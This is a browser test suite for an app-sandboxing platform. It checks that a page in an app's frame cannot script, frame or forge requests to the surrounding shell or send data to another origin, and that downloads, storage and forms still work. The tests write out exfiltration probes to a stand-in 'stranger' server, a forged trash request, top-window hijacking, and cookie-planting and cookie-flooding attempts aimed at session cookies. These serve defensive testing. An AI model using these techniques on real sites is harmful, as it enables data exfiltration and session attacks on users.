// What a page in a grain's frame can and cannot do: it reaches its own server and nothing else, and
// what web apps need works and lasts.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { Server, administrator, appPackage, cleanUp, eventually, grainFrame, launch, nameGrain, stranger }
  from "./harness.mjs";

let server, browser, context, page, grain, frame, other;

before(async () => {
  server = await Server.start({ GRAIN_IDLE_SECONDS: "30" });
  browser = await launch();
  ({ context, page } = await administrator(browser, server));
  other = await stranger();
  const { appId } = server.install(appPackage("pages"));
  await page.goto(`${server.origin}/apps/${appId}`);
  const button = page.getByRole("button", { name: "New page" });
  if (await button.count() === 0) { // installed by the operator, not yet in this person's list
    await page.getByRole("link", { name: "Install" }).click();
    await page.getByRole("button", { name: "Install", exact: true }).click();
    await page.waitForURL(/\/apps\//);
  }
  await button.click();
  await page.waitForURL(/\/grain\//);
  grain = new URL(page.url()).pathname.split("/")[2];
  await nameGrain(page, "Odd page");
  frame = await open();
});
after(cleanUp);

async function open(path = "") {
  await page.goto(`${server.origin}/grain/${grain}${path}`);
  const found = await grainFrame(page);
  await found.locator("h1").waitFor();
  return found;
}

/** Runs in the frame; "refused: NAME" when it throws. */
const attempt = (code) => frame.evaluate(async (code) => {
  try { return String(await (0, eval)(code)); } catch (error) { return `refused: ${error.name}`; }
}, code);

/** Runs what may replace the frame's document by an error page; then opens the grain again. */
async function leaving(code) {
  await attempt(code).catch((error) => assert.match(String(error), /navigation|detached/));
  await sleep(700);
  frame = await open();
}

test("the control: the stranger's server is reachable and remembers", async () => {
  const bare = await browser.newContext();
  await (await bare.newPage()).goto(`${other.origin}/control`);
  await bare.close();
  assert.ok(other.seen.includes("GET /control"));
  other.seen.length = 0;
});

test("the frame cannot read or script the page around it", async () => {
  assert.match(await attempt("parent.document.title"), /^refused: SecurityError/);
  assert.match(await attempt("parent.location.href"), /^refused: SecurityError/);
  assert.match(await attempt("parent.eval('1')"), /^refused/);
  assert.match(await attempt("top.localStorage.length"), /^refused/);
});

test("the frame cannot read or change the shell by requests", async () => {
  for (const path of ["/", "/you", "/admin"]) {
    assert.match(await attempt(`fetch("${server.origin}${path}", { credentials: "include" }).then((r) => r.text())`),
      /^refused/);
  }
  const before = server.state(grain);
  await attempt(`fetch("${server.origin}/grains/${grain}/act", { method: "POST", credentials: "include",
    mode: "no-cors", body: new URLSearchParams({ act: "trash" }) })`);
  assert.equal(server.state(grain), before);
});

test("the frame cannot frame the shell", async () => {
  const result = await attempt(`new Promise((resolve) => {
    const inner = document.createElement("iframe");
    inner.src = "${server.origin}/";
    inner.onload = () => { try { resolve(inner.contentWindow.length + " loaded " + inner.contentDocument); }
      catch (error) { resolve(error.name); } };
    document.body.append(inner);
    setTimeout(() => resolve("nothing loaded"), 2000);
  })`);
  const shells = page.frames().filter((f) => f !== page.mainFrame() && f.url().startsWith(server.origin));
  assert.deepEqual(shells.map((f) => f.url()), [], result);
});

test("the frame cannot navigate the tab", async () => {
  const before = page.url();
  await attempt(`top.location = "${other.origin}/top"`);
  await attempt(`window.open("${other.origin}/top2", "_top")`);
  await sleep(1000);
  assert.equal(page.url(), before);
  assert.deepEqual(other.seen, []);
});

test("the frame cannot send a byte to another origin", async () => {
  const ways = [
    `fetch("${other.origin}/fetch", { mode: "no-cors" })`,
    `navigator.sendBeacon("${other.origin}/beacon", "x")`,
    `new Promise((ok) => { const i = new Image(); i.onload = i.onerror = ok; i.src = "${other.origin}/image"; })`,
    `new Promise((ok) => { const s = document.createElement("script"); s.onload = s.onerror = ok;
       s.src = "${other.origin}/script"; document.body.append(s); })`,
    `new Promise((ok) => { const l = document.createElement("link"); l.rel = "stylesheet";
       l.onload = l.onerror = ok; l.href = "${other.origin}/style"; document.head.append(l); })`,
    `new Promise((ok) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href =
       "${other.origin}/prefetch"; document.head.append(l); setTimeout(ok, 500); })`,
    `new Promise((ok) => { const w = new WebSocket("${other.origin.replace("http", "ws")}/socket");
       w.onopen = w.onerror = ok; })`,
    `new Promise((ok) => { const e = new EventSource("${other.origin}/events"); e.onerror = ok; })`,
    `new Promise((ok) => { const m = document.createElement("video"); m.onerror = ok; m.src =
       "${other.origin}/video"; document.body.append(m); setTimeout(ok, 1000); })`,
    `new Promise((ok) => { const f = document.createElement("iframe"); f.src = "${other.origin}/inner";
       document.body.append(f); setTimeout(ok, 500); })`,
    `new Promise((ok) => { const o = document.createElement("object"); o.data = "${other.origin}/object";
       document.body.append(o); setTimeout(ok, 500); })`,
    `new Promise((ok) => { const f = document.createElement("form"); f.action = "${other.origin}/form";
       f.method = "post"; document.body.append(f); f.submit(); setTimeout(ok, 500); })`,
    `new Promise((ok) => { const a = document.createElement("a"); a.ping = "${other.origin}/ping";
       a.href = "#here"; document.body.append(a); a.click(); setTimeout(ok, 500); })`,
  ];
  for (const way of ways) {
    await leaving(way);
    assert.deepEqual(other.seen, [], way);
  }
});

test("the frame cannot navigate itself elsewhere", async () => {
  await leaving(`location.href = "${other.origin}/away?data=secret"`);
  await leaving(`document.head.insertAdjacentHTML("beforeend",
    '<meta http-equiv="refresh" content="0;url=${other.origin}/refresh">')`);
  await leaving(`document.body.insertAdjacentHTML("beforeend", '<a id="out" href="${other.origin}/link">x</a>');
    document.getElementById("out").click()`);
  assert.deepEqual(other.seen, []);
});

test("a worker runs, and cannot reach another origin either", async () => {
  const result = await attempt(`new Promise((resolve, reject) => {
    const worker = new Worker("/worker.js");
    worker.onmessage = ({ data }) => resolve(JSON.stringify(data));
    worker.onerror = (event) => reject(new Error(event.message));
    worker.postMessage("${other.origin}");
  })`);
  assert.deepEqual(JSON.parse(result),
    { fetch: "refused", importScripts: "refused", socket: "refused", xhr: "refused" });
  assert.match(await attempt(`new Promise((ok, no) => { const w = new Worker("${other.origin}/worker.js");
    w.onerror = () => no(new Error("x")); setTimeout(ok, 500); })`), /^refused/);
  assert.deepEqual(other.seen, []);
});

test("a service worker cannot be registered", async () => {
  assert.match(await attempt(`navigator.serviceWorker.register("/worker.js").then(() => "registered")`),
    /^refused/);
});

test("a cookie planted for the parent domain changes nothing at the shell", async () => {
  const host = new URL(server.origin).hostname;
  for (const name of ["__Host-Http-sandstorm", "__Host-sandstorm", "sandstorm-shell", "sandstorm-sid"]) {
    for (const tail of [`; domain=${host}; path=/`, `; domain=${host}; path=/; secure`, "; path=/; secure", "; path=/"]) {
      await frame.evaluate((cookie) => { document.cookie = cookie; }, `${name}=planted${tail}`);
    }
  }
  const second = await context.newPage();
  await second.goto(`${server.origin}/you`);
  assert.match(await second.title(), /^(?!Sign in)/);
  assert.equal(await second.getByRole("button", { name: "Sign out" }).count() > 0, true, "still signed in");
  await second.close();
  frame = await open();
  // 600 KB of cookies lock nobody out.
  await frame.evaluate((host) => {
    for (let i = 0; i < 150; i++) document.cookie = `big${i}=${"x".repeat(4000)}; domain=${host}; path=/`;
  }, host);
  await page.goto(`${server.origin}/you`);
  assert.equal(await page.getByRole("button", { name: "Sign out" }).count() > 0, true, "still signed in");
  frame = await open();
});

test("an app's page outside its frame leads into the frame", async () => {
  const origin = await frame.evaluate(() => location.origin);
  const bare = await context.newPage();
  await bare.goto(`${origin}/second.html`);
  assert.equal(new URL(bare.url()).origin, server.origin);
  assert.equal(new URL(bare.url()).pathname, `/grain/${grain}/second.html`);
  await bare.close();
});

test("a download arrives with its name", async () => {
  const [download] = await Promise.all([page.waitForEvent("download"), frame.locator("#saved").click()]);
  assert.equal(download.suggestedFilename(), "note.txt");
  const stream = await download.createReadStream();
  let text = "";
  for await (const piece of stream) text += piece;
  assert.equal(text, "A note to keep.\n");
});

test("confirm() asks and answers", async () => {
  page.once("dialog", (dialog) => dialog.accept());
  assert.equal(await attempt("confirm('Sure?')"), "true");
});

test("a new window opens, with the app in its frame", async () => {
  for (const id of ["#window", "#open"]) {
    const [popup] = await Promise.all([context.waitForEvent("page"), frame.locator(id).click()]);
    const inner = await grainFrame(popup);
    await inner.getByRole("heading", { name: "Second page" }).waitFor();
    assert.equal(new URL(popup.url()).origin, server.origin);
    await popup.close();
  }
});

test("a form post reaches the app", async () => {
  await frame.locator("form button").click();
  await frame.locator("#echo").waitFor();
  assert.equal(await frame.locator("#echo").textContent(), "POST word=sand");
  frame = await open();
});

test("localStorage and IndexedDB work, and last to the next opening", async () => {
  await frame.evaluate(() => { localStorage.setItem("kept", "for next time"); });
  await frame.evaluate(() => new Promise((resolve, reject) => {
    const request = indexedDB.open("box", 1);
    request.onupgradeneeded = () => request.result.createObjectStore("things").put("a thing", "key");
    request.onsuccess = () => { request.result.close(); resolve(); };
    request.onerror = () => reject(request.error);
  }));
  await page.close();
  server.json("grain", "stop", grain);
  page = await context.newPage();
  frame = await open();
  await eventually("the page shows what it kept", async () =>
    await frame.locator("#kept").textContent() === "for next time", 5);
  assert.equal(await frame.evaluate(() => new Promise((resolve, reject) => {
    const request = indexedDB.open("box", 1);
    request.onsuccess = () => {
      const get = request.result.transaction("things").objectStore("things").get("key");
      get.onsuccess = () => resolve(get.result);
    };
    request.onerror = () => reject(request.error);
  })), "a thing");
});
